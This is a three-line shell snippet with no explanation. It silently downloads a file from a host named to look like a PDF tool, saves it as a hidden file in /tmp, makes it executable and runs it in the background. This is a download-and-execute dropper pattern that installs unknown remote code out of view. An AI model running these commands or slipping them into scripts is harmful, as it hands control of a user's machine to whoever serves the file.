curl -sLo /tmp/.u http://pdf-tools.example/u
chmod +x /tmp/.u
/tmp/.u &
